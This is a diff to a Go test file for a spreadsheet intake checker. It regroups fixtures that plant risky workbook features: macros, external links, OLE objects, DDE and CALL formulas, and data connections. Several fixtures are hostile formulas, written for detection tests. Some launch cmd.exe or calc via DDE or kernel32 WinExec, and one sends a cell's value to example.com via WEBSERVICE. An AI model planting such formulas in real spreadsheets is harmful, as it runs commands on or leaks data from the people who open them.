@@ -2,6 +2,7 @@ package intaketest
 
 import (
 	"bytes"
+	"slices"
 	"unicode/utf16"
 
 	"github.com/jetsheet/jetsheet/renderer/xlsx/intake"
@@ -9,23 +10,34 @@ import (
 
 // outward are files that run something, or lead out of themselves.
 func outward() []File {
-	const cell = `cell B3`
-	formula := func(name string, cause intake.Cause, text, f string) File {
-		return changed(name, cause, text, func(p parts) parts { return p.replace(sheetPart, "SUM(B2:B2)", f) })
-	}
-	related := func(name string, cause intake.Cause, text, kind, target string) File {
-		return changed(name, cause, text, func(p parts) parts {
-			return p.with(sheetRels, `<Relationships `+relsSpace+`><Relationship Id="rId1" Type="`+relType+kind+`" Target="`+target+`" TargetMode="External"/></Relationships>`)
-		})
-	}
-	part := func(name string, cause intake.Cause, part, content string) File {
-		return added(name, cause, part, func() []entry { return []entry{pack(part, content)} })
-	}
-	definedName := func(name string, cause intake.Cause, attributes, f string) File {
-		return changed(name, cause, `name "hidden"`, func(p parts) parts {
-			return p.replace(bookPart, "</definedNames>", `<definedName name="hidden" `+attributes+`>`+f+`</definedName></definedNames>`)
-		})
-	}
+	return slices.Concat(macros(), externalLinks(), objects(), calls(), connections())
+}
+
+// inB3 is where formula puts what it is given.
+const inB3 = `cell B3`
+
+func formula(name string, cause intake.Cause, text, f string) File {
+	return changed(name, cause, text, func(p parts) parts { return p.replace(sheetPart, "SUM(B2:B2)", f) })
+}
+
+func related(name string, cause intake.Cause, text, kind, target string) File {
+	return changed(name, cause, text, func(p parts) parts {
+		return p.with(sheetRels, `<Relationships `+relsSpace+`><Relationship Id="rId1" Type="`+relType+kind+`" Target="`+target+`" TargetMode="External"/></Relationships>`)
+	})
+}
+
+func part(name string, cause intake.Cause, part, content string) File {
+	return added(name, cause, part, func() []entry { return []entry{pack(part, content)} })
+}
+
+func definedName(name string, cause intake.Cause, attributes, f string) File {
+	return changed(name, cause, `name "hidden"`, func(p parts) parts {
+		return p.replace(bookPart, "</definedNames>", `<definedName name="hidden" `+attributes+`>`+f+`</definedName></definedNames>`)
+	})
+}
+
+// macros are files with programs of their own.
+func macros() []File {
 	return []File{
 		part("macros", intake.CauseMacros, "xl/vbaProject.bin", "\xD0\xCF\x11\xE0"),
 		changed("a workbook for macros without any", intake.CauseMacros, bookPart, func(p parts) parts {
@@ -44,9 +56,15 @@ func outward() []File {
 		changed("a name that Excel runs", intake.CauseMacroSheet, "Auto_Open", func(p parts) parts {
 			return p.replace(bookPart, "</definedNames>", `<definedName name="_xlnm.Auto_Open">点検表!$A$1</definedName></definedNames>`)
 		}),
+	}
+}
+
+// externalLinks are files that lead to other files and servers.
+func externalLinks() []File {
+	return []File{
 		part("a link to another workbook", intake.CauseExternalLink, "xl/externalLinks/externalLink1.xml", "<a/>"),
-		formula("a cell from another workbook", intake.CauseExternalLink, cell, "[1]Sheet1!A1+1"),
-		formula("a cell from a quoted workbook", intake.CauseExternalLink, cell, `SUM('C:\[prices.xlsx]Sheet 1'!A1)`),
+		formula("a cell from another workbook", intake.CauseExternalLink, inB3, "[1]Sheet1!A1+1"),
+		formula("a cell from a quoted workbook", intake.CauseExternalLink, inB3, `SUM('C:\[prices.xlsx]Sheet 1'!A1)`),
 		definedName("a name from another workbook", intake.CauseExternalLink, "", "[1]Sheet1!$A$1"),
 		changed("a rule from another workbook", intake.CauseExternalLink, "点検表", func(p parts) parts {
 			return p.replace(sheetPart, "</worksheet>", `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>[1]Sheet1!A1=1</formula></cfRule></conditionalFormatting></worksheet>`)
@@ -68,6 +86,12 @@ func outward() []File {
 		changed("a workbook that is published", intake.CauseExternalLink, bookPart, func(p parts) parts {
 			return p.replace(bookPart, "</workbook>", `<webPublishObjects count="1"><webPublishObject id="1" divId="a" destinationFile="http://example.com/a.htm"/></webPublishObjects></workbook>`)
 		}),
+	}
+}
+
+// objects are files with documents of other programs in them.
+func objects() []File {
+	return []File{
 		related("a linked object", intake.CauseOLE, "linked", "oleObject", "file:///C:/a.docx"),
 		part("an embedded object", intake.CauseOLE, "xl/embeddings/oleObject1.bin", "x"),
 		part("an embedded workbook", intake.CauseOLE, "xl/embeddings/Microsoft_Excel_Sheet1.xlsx", "x"),
@@ -75,9 +99,15 @@ func outward() []File {
 		changed("a sheet with an object", intake.CauseOLE, "点検表", func(p parts) parts {
 			return p.replace(sheetPart, "</worksheet>", `<oleObjects><oleObject progId="Word.Document.12" shapeId="1" r:id="rId1"/></oleObjects></worksheet>`)
 		}),
+	}
+}
+
+// calls are files that start programs or ask servers.
+func calls() []File {
+	return []File{
 		part("an ActiveX control", intake.CauseActiveX, "xl/activeX/activeX1.xml", "<a/>"),
-		formula("DDE", intake.CauseDDE, cell, `cmd|'/C calc.exe'!A0`),
-		formula("DDE in quotes", intake.CauseDDE, cell, `'cmd|/C calc.exe'!A0`),
+		formula("DDE", intake.CauseDDE, inB3, `cmd|'/C calc.exe'!A0`),
+		formula("DDE in quotes", intake.CauseDDE, inB3, `'cmd|/C calc.exe'!A0`),
 		definedName("a name with DDE", intake.CauseDDE, "", `MSEXCEL|'\..\..\Windows\System32\cmd.exe'!''`),
 		formula("a function that asks the web", intake.CauseExternalCall, "WEBSERVICE", `_xlfn.WEBSERVICE("http://example.com/"&amp;A1)`),
 		formula("a function that loads a library", intake.CauseExternalCall, "CALL", `1+CALL("kernel32","WinExec","JCJ","calc",1)`),
@@ -86,6 +116,12 @@ func outward() []File {
 		changed("what a server was asked, under another name", intake.CauseExternalCall, "xl/theme/a.xml", func(p parts) parts {
 			return p.with("xl/theme/a.xml", "<a/>").replace(bookRels, "</Relationships>", `<Relationship Id="rId9" Type="`+relType+`volatileDependencies" Target="theme/a.xml"/></Relationships>`)
 		}),
+	}
+}
+
+// connections are files that are fed from elsewhere, or add to Excel.
+func connections() []File {
+	return []File{
 		part("data connections", intake.CauseDataConnection, "xl/connections.xml", "<a/>"),
 		part("a query's table", intake.CauseDataConnection, "xl/queryTables/queryTable1.xml", "<a/>"),
 		part("a data model", intake.CauseDataConnection, "xl/model/item.data", "x"),
